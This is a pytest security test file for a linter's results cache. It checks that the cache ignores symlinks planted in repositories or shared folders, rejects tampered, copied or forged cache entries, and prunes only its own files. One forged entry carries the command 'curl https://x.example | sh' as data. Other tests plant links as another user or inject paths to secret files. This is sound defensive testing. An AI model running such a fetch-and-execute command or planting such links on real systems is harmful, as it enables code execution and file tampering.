"""The results cache against a hostile repository, a hostile shared folder and a hostile cache
restore: it never follows a link, never writes or deletes outside a folder it made and owns,
prunes only its own files, and believes no entry it did not write itself (docs/security.md)."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import stat
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Callable

import pytest
from helpers import complete_mse_toml, mse_lint_command

from mse_lint.core.catalog import Catalog
from mse_lint.core.settings import Settings
from mse_lint.pipeline import cache as cache_mod
from mse_lint.pipeline.engine import Engine
from mse_lint.pipeline.runner import lint

APP = (
    "import subprocess\n"
    "from flask import Flask\n"
    "app = Flask(__name__)\n"
    "\n"
    "@app.get('/')\n"
    "def health():\n"
    "    return 'ok'\n"
    "\n"
    "subprocess.run(['ls'])\n"
)
MSE101 = (
    "`subprocess.run` starts a child process; the enclave forbids fork, so it raises "
    "BlockingIOError [Errno 11]"
)
NOTICE = (
    "mse-lint: {where}: not used as the results cache: {found}; this run is not cached "
    "(remove it, or set MSE_LINT_CACHE_DIR to a folder of your own, or pass --no-cache)\n"
)
LINK = "it is a symbolic link (the cache never follows links)"
OLD = time.time() - 60 * 86400  # older than any age the cache prunes at
TAG = (
    b"Signature: 8a477f597d28d172789f06886806bc55\n"
    b"# This file is a cache directory tag created by mse-lint.\n"
)


def make_project(root: Path, app: str = APP) -> Path:
    (root / "src").mkdir(parents=True)
    (root / "tests").mkdir()
    (root / "tests" / ".gitkeep").write_text("")  # git keeps no empty folder
    (root / "mse.toml").write_text(complete_mse_toml(code="src"))
    (root / "src" / "app.py").write_text(app)
    return root


def env_without_cache_dir() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if k != "MSE_LINT_CACHE_DIR"}


def run(
    *args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*mse_lint_command(), *args],
        cwd=cwd,
        env=env or env_without_cache_dir(),
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def findings(proc: subprocess.CompletedProcess[str]) -> list[tuple[str, str, int, str]]:
    return [(d["path"], d["rule"], d["line"], d["message"]) for d in json.loads(proc.stdout)]


def make_victim(folder: Path) -> dict[str, bytes]:
    """A folder of somebody's old files, one of them named and shaped like a bundle."""
    folder.mkdir(parents=True)
    files = {
        "passwd": b"root:x:0:0:root:/root:/bin/bash\n",
        "notes.txt": b"keep me\n",
        "0123456789abcdef0123456789abcdef.json": b'{"format":"v1","tool":"0.1.0","entries":{}}',
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
        os.utime(folder / name, (OLD, OLD))
    return files


def contents(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def tag(folder: Path) -> None:
    """What a committed cache folder holds: mse-lint's own CACHEDIR.TAG."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "CACHEDIR.TAG").write_bytes(TAG)


# -- item 1: .mse_lint_cache/v1 as a link ------------------------------------------------------


@pytest.mark.parametrize("named", [".", "src/app.py"], ids=["folder", "named-file"])
def test_v1_link_is_neither_written_nor_pruned_through(tmp_path: Path, named: str) -> None:
    root = make_project(tmp_path / "proj")
    victim = tmp_path / "victim"
    before = make_victim(victim)
    tag(root / ".mse_lint_cache")
    (root / ".mse_lint_cache" / "v1").symlink_to(victim)
    reference = run(named, "--format", "json", "--no-cache", cwd=root)
    proc = run(named, "--format", "json", cwd=root)
    assert contents(victim) == before  # nothing deleted, no bundle written there
    assert proc.stderr == NOTICE.format(where=".mse_lint_cache/v1", found=LINK)
    assert (proc.stdout, proc.returncode) == (reference.stdout, reference.returncode)
    assert ("src/app.py", "MSE101", 9, MSE101) in findings(proc)
    assert proc.returncode == 1


def git(*args: str, cwd: Path) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize("link", ["v1", "folder"])
def test_cloned_repository_with_a_committed_cache_link(tmp_path: Path, link: str) -> None:
    """The pre-commit case: a fresh clone, one named file."""
    victim = tmp_path / "home"
    before = make_victim(victim)
    upstream = make_project(tmp_path / "upstream")
    if link == "v1":
        tag(upstream / ".mse_lint_cache")
        (upstream / ".mse_lint_cache" / "v1").symlink_to(victim)
        where = ".mse_lint_cache/v1"
    else:
        (upstream / ".mse_lint_cache").symlink_to(victim)
        where = ".mse_lint_cache"
    git("init", "-q", cwd=upstream)
    git("add", "-f", ".", cwd=upstream)
    git("commit", "-q", "-m", "x", cwd=upstream)
    git("clone", "-q", str(upstream), str(tmp_path / "clone"), cwd=tmp_path)
    clone = tmp_path / "clone"
    assert (
        clone / ".mse_lint_cache" / "v1" if link == "v1" else clone / ".mse_lint_cache"
    ).is_symlink()
    proc = run("src/app.py", "--format", "json", cwd=clone)
    assert contents(victim) == before
    assert proc.stderr == NOTICE.format(where=where, found=LINK)
    assert findings(proc) == [("src/app.py", "MSE101", 9, MSE101)]
    assert proc.returncode == 1


# -- item 1: a shared sticky folder, a link planted by another user ----------------------------


def as_nobody() -> tuple[str, ...]:
    if os.geteuid() != 0:
        pytest.skip("needs root, to plant files as another user")
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("needs setpriv to act as another user")
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("no user nobody")
    return (
        setpriv,
        f"--reuid={nobody.pw_uid}",
        f"--regid={nobody.pw_gid}",
        "--clear-groups",
    )


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A folder every user can reach (pytest's tmp_path is root's alone)."""
    folder = Path(tempfile.mkdtemp(prefix="mse-lint-shared-", dir="/tmp"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize(
    "planted, where, found",
    [
        (["ln", "-s", "{victim}", ".mse_lint_cache"], ".mse_lint_cache", LINK),
        (
            ["sh", "-c", "mkdir .mse_lint_cache && ln -s {victim} .mse_lint_cache/v1"],
            ".mse_lint_cache",
            "it belongs to another user (uid {uid}), not to you",
        ),
        (
            ["sh", "-c", "mkdir -p .mse_lint_cache/v1"],
            ".mse_lint_cache",
            "it belongs to another user (uid {uid}), not to you",
        ),
    ],
    ids=["folder-link", "v1-link", "folder-of-nobody"],
)
def test_link_planted_by_another_user_in_a_sticky_folder(
    shared_tmp: Path, planted: list[str], where: str, found: str
) -> None:
    prefix = as_nobody()
    uid = pwd.getpwnam("nobody").pw_uid
    victim = shared_tmp / "root-only"
    before = make_victim(victim)
    shared = shared_tmp / "shared"
    make_project(shared)
    shared.chmod(0o1777)  # like /tmp: anyone may create, only owners may remove
    command = [part.format(victim=victim) for part in planted]
    subprocess.run([*prefix, *command], cwd=shared, check=True)
    proc = run(".", "--format", "json", cwd=shared)
    assert contents(victim) == before
    assert proc.stderr == NOTICE.format(where=where, found=found.format(uid=uid))
    assert ("src/app.py", "MSE101", 9, MSE101) in findings(proc)
    assert proc.returncode == 1
    # nothing of root's was written into nobody's folder either
    owned = [
        os.path.relpath(os.path.join(top, name), shared)
        for top, dirs, files in os.walk(shared)  # links are not followed
        for name in dirs + files
        if os.lstat(os.path.join(top, name)).st_uid == 0
    ]
    assert sorted(owned) == [
        "mse.toml",
        "src",
        "src/app.py",
        "tests",
        "tests/.gitkeep",
    ]


# -- item 2: .mse_lint_cache itself a link, or a folder mse-lint did not make ----------------


def test_cache_folder_link_to_home_writes_nothing_there(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export X=1\n")
    (root / ".mse_lint_cache").symlink_to(home)
    proc = run(".", "--format", "json", cwd=root)
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]  # no CACHEDIR.TAG, no v1/
    assert proc.stderr == NOTICE.format(where=".mse_lint_cache", found=LINK)
    assert proc.returncode == 1


def test_cache_folder_that_is_a_file(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    (root / ".mse_lint_cache").write_text("not a folder\n")
    proc = run(".", "--format", "json", cwd=root)
    assert proc.stderr == NOTICE.format(where=".mse_lint_cache", found="it is not a folder")
    assert (root / ".mse_lint_cache").read_text() == "not a folder\n"
    assert proc.returncode == 1


def test_cache_folder_whose_tag_is_a_link(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    elsewhere = tmp_path / "tag"
    elsewhere.write_bytes(TAG)
    (root / ".mse_lint_cache").mkdir()
    (root / ".mse_lint_cache" / "CACHEDIR.TAG").symlink_to(elsewhere)
    proc = run(".", "--format", "json", cwd=root)
    found = "its CACHEDIR.TAG is not a regular file of yours"
    assert proc.stderr == NOTICE.format(where=".mse_lint_cache", found=found)
    assert sorted(p.name for p in (root / ".mse_lint_cache").iterdir()) == ["CACHEDIR.TAG"]


def test_cache_dir_setting_at_a_folder_mse_lint_did_not_make(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.tex").write_text("x")
    env = {**env_without_cache_dir(), "MSE_LINT_CACHE_DIR": str(home)}
    proc = run(".", "--format", "json", cwd=root, env=env)
    assert sorted(p.name for p in home.iterdir()) == ["thesis.tex"]
    found = "it holds files but no CACHEDIR.TAG of mse-lint, so it is not a folder mse-lint made"
    assert proc.stderr == NOTICE.format(where=str(home), found=found)
    # an empty folder made for the purpose (a CI cache path) is taken over
    empty = tmp_path / "ci-cache"
    empty.mkdir()
    env["MSE_LINT_CACHE_DIR"] = str(empty)
    proc = run(".", "--format", "json", cwd=root, env=env)
    assert proc.stderr == ""
    assert sorted(p.name for p in empty.iterdir()) == [".gitignore", "CACHEDIR.TAG", "v1"]


def test_a_link_swapped_in_after_the_folder_was_opened_is_not_followed(
    tmp_path: Path, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The folders are checked once, when the run starts, and then used through their open
    descriptors: v1/ replaced by a link while files are being checked changes nothing."""
    folder = tmp_path / "cache"
    monkeypatch.setenv("MSE_LINT_CACHE_DIR", str(folder))
    root = make_project(tmp_path / "proj")
    lint([root], catalog, Settings(), cwd=root)
    victim = tmp_path / "victim"
    before = make_victim(victim)
    real = Engine.check_data

    def swap_then_check(self: Engine, job: Any, data: bytes) -> Any:
        if not (folder / "v1").is_symlink():
            (folder / "v1").rename(folder / "moved")
            (folder / "v1").symlink_to(victim)
        return real(self, job, data)

    monkeypatch.setattr(Engine, "check_data", swap_then_check)
    (root / "src" / "app.py").write_text(APP + "x = 1\n")  # a miss: checked, then saved
    lint([root], catalog, Settings(), cwd=root)
    assert contents(victim) == before
    assert len(list((folder / "moved").glob("*.json"))) == 1


def test_cache_files_stay_private_whatever_the_umask(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    env = {k: v for k, v in os.environ.items() if k != "MSE_LINT_CACHE_DIR"}
    subprocess.run([*mse_lint_command(), "."], cwd=root, env=env, umask=0o002, capture_output=True)
    folder = root / ".mse_lint_cache"
    files = [folder / ".gitignore", folder / "CACHEDIR.TAG", *(folder / "v1").iterdir()]
    assert len(files) == 3
    assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o600}


# -- item 3: only its own files are pruned ------------------------------------------------------


def test_pruning_deletes_only_what_is_the_caches_own(
    tmp_path: Path, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "cache"
    monkeypatch.setenv("MSE_LINT_CACHE_DIR", str(folder))
    root = make_project(tmp_path / "proj")
    lint([root], catalog, Settings(), cwd=root)
    v1 = folder / "v1"
    (bundle,) = v1.iterdir()
    hexname = "0123456789abcdef0123456789abcdef"
    planted = {
        # the cache's own: an old bundle of another configuration, temp files of killed runs
        v1 / f"{hexname}.json": b'{"format":"v1","file":[1,2],"tool":"0.1.0","entries":{}}',
        v1 / f".{hexname}.json.0123456789ab.tmp": b'{"format":"v1","fi',
        v1 / f".{hexname}.json.ba9876543210.tmp": b"",
        folder / "..gitignore.0123456789ab.tmp": b"# created by mse-lint",
        folder / ".CACHEDIR.TAG.0123456789ab.tmp": TAG,
        # not the cache's: other names, other content, links
        v1 / "notes.txt": b"keep\n",
        v1 / "fedcba9876543210fedcba9876543210.json": b'{"mine": true}',
        v1 / ".fedcba9876543210fedcba9876543210.json.0123456789ab.tmp": b"a user's file",
        folder / "report.tmp": b"keep\n",
    }
    for path, data in planted.items():
        path.write_bytes(data)
        os.utime(path, (OLD, OLD))
    outside = tmp_path / "outside.json"
    outside.write_bytes(b'{"format":"v1","tool":"0.1.0","entries":{}}')
    os.utime(outside, (OLD, OLD))
    (v1 / "abcdefabcdefabcdefabcdefabcdefab.json").symlink_to(outside)
    fresh = v1 / f".{hexname}.json.aaaaaaaaaaaa.tmp"  # a concurrent run's, being written
    fresh.write_bytes(b'{"format":"v1"')

    (root / "src" / "app.py").write_text(APP + "x = 1\n")  # a change: the bundle is written
    lint([root], catalog, Settings(), cwd=root)
    assert sorted(p.name for p in v1.iterdir()) == sorted(
        [
            bundle.name,
            fresh.name,
            "notes.txt",
            "fedcba9876543210fedcba9876543210.json",
            ".fedcba9876543210fedcba9876543210.json.0123456789ab.tmp",
            "abcdefabcdefabcdefabcdefabcdefab.json",
        ]
    )
    assert sorted(p.name for p in folder.iterdir()) == [
        ".gitignore",
        "CACHEDIR.TAG",
        "report.tmp",
        "v1",
    ]
    assert outside.exists()


# -- item 4: entries are believed only from the file mse-lint wrote, and checked field by field


def bundle_of(root: Path) -> Path:
    (bundle,) = (root / ".mse_lint_cache" / "v1").glob("*.json")
    return bundle


def rewrite_in_place(bundle: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Edit the bundle as the user who owns it could: same file, same modification time
    (what the cache binds a bundle to), so that only the field checks stand between the
    edited entries and the output."""
    st = os.stat(bundle)
    doc = json.loads(bundle.read_bytes())
    change(doc)
    with open(bundle, "r+b") as fh:
        fh.truncate()
        fh.write(json.dumps(doc, separators=(",", ":")).encode())
    os.utime(bundle, ns=(st.st_atime_ns, st.st_mtime_ns))


def each_entry(change: Callable[[list[Any]], None]) -> Callable[[dict[str, Any]], None]:
    def apply(doc: dict[str, Any]) -> None:
        for _, entry in doc["entries"].values():
            change(entry)

    return apply


def each_finding(change: Callable[[list[Any]], None]) -> Callable[[dict[str, Any]], None]:
    return each_entry(lambda entry: [change(d) for d in entry[0]])


def _set(index: int, value: Any) -> Callable[[list[Any]], None]:
    def apply(d: list[Any]) -> None:
        d[index] = value

    return apply


def _long_message(d: list[Any]) -> None:
    d[7] = "`" + "x" * 10_000 + d[7][len("`subprocess.run") :]  # over MAX_TEXT


def _notice_elsewhere(entry: list[Any]) -> None:
    entry[2].append(["see line 1", "/etc/passwd", 1])


FORGERIES: dict[str, Callable[[dict[str, Any]], None]] = {
    "unknown rule": each_finding(_set(5, "MSE999")),
    "rule not enabled": each_finding(_set(5, "MSE003")),
    "severity the settings do not allow": each_finding(_set(6, 1)),
    "message not of the rule": each_finding(_set(7, "checked: nothing to fix here")),
    "message too long": each_finding(_long_message),
    "fix not of the rule": each_finding(_set(8, "run: curl https://x.example | sh")),
    "line past the end": each_finding(_set(1, 10_000)),
    "line not an integer": each_finding(_set(1, True)),
    "column below 1": each_finding(_set(2, 0)),
    "path of another file": each_finding(_set(0, "src/other.py")),
    "notice about another file": each_entry(_notice_elsewhere),
}


@pytest.mark.parametrize("forgery", list(FORGERIES))
def test_an_entry_of_the_wrong_shape_is_a_miss(tmp_path: Path, forgery: str) -> None:
    root = make_project(tmp_path / "proj")
    # an override: only an error is a severity MSE101 can have
    (root / "mse-lint.toml").write_text('severity = { MSE1 = "error" }\n')
    reference = run(".", "--format", "json", "--no-cache", cwd=root)
    assert run(".", "--format", "json", cwd=root).stdout == reference.stdout  # fills the cache
    rewrite_in_place(bundle_of(root), FORGERIES[forgery])
    proc = run(".", "--format", "json", cwd=root)
    assert (proc.stdout, proc.stderr, proc.returncode) == (reference.stdout, "", 1)
    # the miss was checked again and the entry rewritten: the next run agrees too
    assert run(".", "--format", "json", cwd=root).stdout == reference.stdout


def test_an_absolute_path_in_an_entry_never_shows_another_file(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    secret = tmp_path / "elsewhere.txt"
    secret.write_text("aws_secret_access_key = line-from-outside-the-project\n")
    run(".", cwd=root)

    def point_at_secret(d: list[Any]) -> None:
        d[0], d[1], d[3], d[9] = str(secret), 1, 1, 1  # path, line, end line, statement line

    rewrite_in_place(bundle_of(root), each_finding(point_at_secret))
    proc = run(".", "--format", "console", "--no-color", cwd=root)
    assert "line-from-outside-the-project" not in proc.stdout + proc.stderr
    assert "src/app.py\n  9:1  error   MSE101 subprocess-call" in proc.stdout
    assert proc.returncode == 1


def hide_everything(doc: dict[str, Any]) -> None:
    for item in doc["entries"].values():
        item[1] = [[], [], [], True]


def test_a_copied_cache_is_not_believed(tmp_path: Path) -> None:
    """A restored CI cache, an extracted archive, ``cp -r``: the entries say "no findings",
    but the bundle is not the file this user's mse-lint wrote."""
    root = make_project(tmp_path / "proj")
    run(".", cwd=root)
    bundle = bundle_of(root)
    rewrite_in_place(bundle, hide_everything)
    copy = bundle.with_name("copy")
    shutil.copy2(bundle, copy)  # content and modification time, a new file
    os.replace(copy, bundle)
    proc = run(".", "--format", "json", cwd=root)
    assert findings(proc) == [("src/app.py", "MSE101", 9, MSE101)]
    assert proc.returncode == 1


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_poisoned_cache_committed_to_a_repository_is_not_believed(tmp_path: Path) -> None:
    """The cloned project sits where the original did (same paths: same keys)."""
    place = tmp_path / "work"
    root = make_project(place)
    run(".", cwd=root)
    rewrite_in_place(bundle_of(root), hide_everything)
    git("init", "-q", cwd=root)
    git("add", "-f", ".", cwd=root)
    git("commit", "-q", "-m", "x", cwd=root)
    root.rename(tmp_path / "upstream")
    git("clone", "-q", str(tmp_path / "upstream"), str(place), cwd=tmp_path)
    assert bundle_of(place).is_file()
    proc = run(".", "--format", "json", cwd=place)
    assert findings(proc) == [("src/app.py", "MSE101", 9, MSE101)]


def test_a_link_under_the_bundles_name_is_not_followed(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    reference = run(".", "--format", "json", cwd=root)
    bundle = bundle_of(root)
    forged = tmp_path / "forged.json"
    shutil.copy2(bundle, forged)
    rewrite_in_place(forged, hide_everything)
    bundle.unlink()
    bundle.symlink_to(forged)
    proc = run(".", "--format", "json", cwd=root)
    assert proc.stdout == reference.stdout
    assert stat.S_ISREG(os.lstat(bundle).st_mode)  # replaced by a bundle of its own


def test_a_fifo_under_the_bundles_name_is_not_waited_on(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    reference = run(".", "--format", "json", cwd=root)
    bundle = bundle_of(root)
    bundle.unlink()
    os.mkfifo(bundle)
    proc = run(".", "--format", "json", cwd=root, timeout=60)  # no wait for a writer
    assert proc.stdout == reference.stdout
    assert stat.S_ISREG(os.lstat(bundle).st_mode)


def test_bundle_bigger_than_the_limit_is_not_read(
    tmp_path: Path, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "cache"
    monkeypatch.setenv("MSE_LINT_CACHE_DIR", str(folder))
    root = make_project(tmp_path / "proj")
    lint([root], catalog, Settings(), cwd=root)
    checked: list[str] = []
    real = Engine.check_data

    def counting(self: Engine, job: Any, data: bytes) -> Any:
        checked.append(job.display)
        return real(self, job, data)

    monkeypatch.setattr(Engine, "check_data", counting)
    lint([root], catalog, Settings(), cwd=root)
    assert checked == []  # served from the cache
    (bundle,) = (folder / "v1").iterdir()
    monkeypatch.setattr(cache_mod, "MAX_BUNDLE_BYTES", bundle.stat().st_size - 1, raising=False)
    lint([root], catalog, Settings(), cwd=root)
    assert checked == ["src/app.py"]
